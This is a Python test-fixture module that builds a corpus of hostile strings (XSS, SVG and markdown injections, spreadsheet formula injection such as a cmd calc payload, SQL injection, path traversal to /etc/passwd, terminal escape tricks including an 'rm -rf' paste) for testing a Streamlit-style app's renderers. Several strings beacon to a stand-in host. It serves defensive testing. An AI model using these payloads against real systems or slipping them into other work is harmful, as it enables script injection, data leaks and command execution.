"""Names that an attacker gives to keys and agents: script, markup, markdown, SVG, formulas, terminals, SQL, paths.

After OWASP's XSS filter evasion and CSV injection pages and Streamlit's own renderers (markdown, katex, graphviz).
`HOST` is where a beacon would go; a browser test counts every request to it.
"""

from itertools import product

HOST = "beacon.invalid"

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f"<img src=http://{HOST}/i.png>",
    f'"><img src="http://{HOST}/q.png">',
    f"'><script src=//{HOST}/s.js></script>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    f'<svg><image href="http://{HOST}/svg.png"/></svg>',
    f'<svg><use href="http://{HOST}/u.svg#x"/></svg>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<details open ontoggle=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    f'<link rel=stylesheet href="http://{HOST}/c.css">',
    f'<meta http-equiv=refresh content="0;url=http://{HOST}/m">',
    f'<base href="http://{HOST}/">',
    f"<style>@import url(http://{HOST}/c.css)</style>",
    f"<form action=http://{HOST}/f><button>go</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<template><script>alert(1)</script></template>",
    "</pre></code></script></style></textarea></title><h1 id=injected>injected</h1>",
    f"![x](http://{HOST}/md.png)",
    "[x](javascript:alert(1))",
    f"[x](http://{HOST}/link)",
    f"[![x](http://{HOST}/nested.png)](http://{HOST}/)",
    f"<http://{HOST}/auto>",
    f"[x]: http://{HOST}/ref",
    "# heading\n\n- list\n\n| a | b |",
    "`code` **bold** ~~strike~~",
    "$\\href{javascript:alert(1)}{x}$",
    f"$$\\includegraphics{{http://{HOST}/k.png}}$$",
    ":material/delete: :red[x] :smile: :streamlit:",
    ":red-background[x] :blue-badge[x]",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{7*7}",
    "\u202egnp.exe\u202c",
    "\u200b\u200d\ufeffzero width",
    "\x1b[31mred\x1b]8;;http://beacon.invalid\x07link",
    "a\x00b\x07c",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://beacon.invalid/","x")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "';DROP TABLE findings;--",
    "' OR 1=1 --",
    "{id:String}",
    "%(issue)s",
    "\\x27; SELECT sleep(10); --",
    'a"];x [URL="javascript:alert(1)", image="http://beacon.invalid/g.png"',
    "\\N\\G\\L",
    "<TABLE><TR><TD>graphviz</TD></TR></TABLE>",
    "../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "constructor",
    "__proto__",
    "toString",
    "null",
    "NaN",
    "",
    " ",
    "x" * 3_000,
    "漢字 кириллица عربى 🙂👩‍👩‍👧",
    "a/b/c//d/",
    "?x=1&y=2#frag",
)

# -- the rest of the corpus: what breaks out of where, combined with what it would do -------------------------------

_BREAKS = ('">', "'>", "</script>", "-->", "</style>", "</title>", "</textarea>", "]]>")
_DOES = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f"<svg onload=fetch('//{HOST}')>",
    f"<iframe src=//{HOST}/f></iframe>",
    "<a href=javascript:alert(1)>go</a>",
)
_EVENTS = (
    "<audio src=x onerror=alert(1)>", "<select autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<div style=animation-name:x onanimationstart=alert(1)>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", f"<isindex action=//{HOST} type=image>", "<button popovertarget=x>x</button>",
    "<dialog open onclose=alert(1)>x</dialog>", f"<img srcset='//{HOST}/s.png 1x'>", "<x onpointerrawupdate=alert(1)>",
    f"<table background=//{HOST}/t.png>", f"<input type=image src=//{HOST}/i.png>", f"<portal src=//{HOST}/p>",
    f"<noscript><img src=//{HOST}/n.png></noscript>", "<a/href=j&#x61;vascript:alert(1)>x</a>",
)  # fmt: skip
_MARKDOWN = (
    "[x](JaVaScRiPt:alert(1))", "[x](&#106;avascript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    f"![x](//{HOST}/m.png)", f"![x][r]\n\n[r]: http://{HOST}/r.png", f"<img src='http://{HOST}/md.png'/>",
    f"http://{HOST}/bare", f"www.{HOST}/bare", f"user@{HOST}", "@everyone", "@here <!channel> <!subteam^S1>",
    "|x|y|\n|-|-|\n|1|2|", "- [ ] task", "> quote", "***", "1. one", "```\ncode\n```", "~~~\ncode\n~~~", "    indented",
    "\\[x\\](y)", "``double``", "a`b", "`", ":red[**x**] :blue-background[y]",
    ":streamlit: :rocket:", "<!-- comment -->",
    "$$\\int_0^1$$", "\\(x\\)", "==mark== ^sup^ ~sub~", "[^1] [^1]: note",
)  # fmt: skip
_SVG = (
    "<svg><animate onbegin=alert(1) attributeName=x></svg>", "<svg><set onend=alert(1)></svg>",
    f"<svg><foreignObject><img src=//{HOST}/fo.png></foreignObject></svg>",
    "<svg><a xlink:href=javascript:alert(1)>x</a>",
    f"<svg><style>@import '//{HOST}/s.css'</style></svg>", f"<svg><rect fill='url(//{HOST}/f.svg#x)'/></svg>",
    f"<svg><filter><feImage href=//{HOST}/fe.png /></filter></svg>", f"<svg><rect mask='url(//{HOST}/m.svg#x)'/></svg>",
    "<svg><title><script>alert(1)</script></title></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    f"<?xml-stylesheet href='//{HOST}/x.css'?><svg/>", f"<!DOCTYPE svg SYSTEM '//{HOST}/x.dtd'><svg/>",
    f"<svg><cursor href=//{HOST}/c.png /></svg>", "<svg viewBox='0 0 1 1' onclick=alert(1)>",
)  # fmt: skip
_FORMULAS = tuple(
    start + does
    for start, does in product(
        ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\uff1d", "\uff0b", "\uff0d", "\uff20"),
        ("cmd|'/C calc'!A1", f'HYPERLINK("http://{HOST}","x")', f'IMPORTXML("http://{HOST}","//a")'),
    )
)
_TERMINAL = (
    "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]52;c;cm0gLXJm\x07", f"\x1b]8;;http://{HOST}\x1b\\x\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\", "\x1b_apc\x1b\\", "\x1b^pm\x1b\\", "\x1bc", "\x9b31m", "\x9d0;x\x9c",
    "\x07", "safe\x08\x08\x08\x08evil",
    "safe\revil", "\x1b[201~rm -rf", "\x1b[?1049h", "\x1b[6n", "\x1b[8m hidden", "\x0c\x0b",
    "\u2028line\u2029", "\x7f\x80",
    "::error file=x::y", "::set-output name=x::y", "\n::warning::x",
)  # fmt: skip

CORPUS = tuple(
    dict.fromkeys(
        (
            *HOSTILE,
            *(break_ + does for break_, does in product(_BREAKS, _DOES)),
            *_EVENTS,
            *_MARKDOWN,
            *_SVG,
            *_FORMULAS,
            *_TERMINAL,
        )
    )
)
"""All of it, 200 names and more, each once: for the tests that take the time."""
